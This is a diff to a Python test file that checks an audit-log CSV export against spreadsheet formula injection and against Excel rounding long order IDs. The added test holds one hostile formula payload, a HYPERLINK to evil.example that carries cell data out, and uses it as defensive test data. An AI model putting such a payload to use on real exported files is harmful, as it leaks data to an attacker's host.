@@ -342,8 +342,28 @@ def test_audit_log_lists_every_action_and_exports_csv_with_bom(store, shop, tmp_
     assert raw.startswith(b"\xef\xbb\xbf")
     with out.open(encoding="utf-8-sig", newline="") as fh:
         table = list(csv.reader(fh))
-    assert len(table) == 3 and table[1][3] == "2" and "order operation reject" in table[1][9]
+    assert len(table) == 3 and table[1][3] == '="2"' and "order operation reject" in table[1][9]
     assert "token" not in raw.decode("utf-8-sig").lower()
+
+
+def test_action_log_csv_never_runs_a_platform_text_as_a_formula_and_keeps_long_ids(store, shop, tmp_path):
+    long_id = 2_100_000_012_345_678  # 16 digits: Excel would round it as a number
+    hostile = '=HYPERLINK("https://evil.example/?x="&A1,"点此查看")'
+    platform = FakePlatform(store, [R(long_id)])
+    platform.script[long_id] = [BusinessRejected(hostile, result=21)]
+    engine = engine_for(platform, store, shop)
+    engine.execute(engine.prepare([long_id], Approve()))
+    out = tmp_path / "audit.csv"
+    assert export_csv(audit_rows(store), out) == 1
+    with out.open(encoding="utf-8-sig", newline="") as fh:
+        header, row = list(csv.reader(fh))
+    assert row[3] == f'="{long_id}"'
+    message, error = row[9], row[10]
+    assert hostile in message and not message.startswith(("=", "+", "-", "@"))
+    assert error == "'" + hostile  # the text kept whole, shown as text
+    for cell in row:  # no cell of the file may start a formula
+        assert not cell.startswith(("+", "-", "@", "\t", "\r")), cell
+        assert not cell.startswith("=") or cell == f'="{long_id}"', cell
 
 
 def test_throttle_paces_and_backs_off():
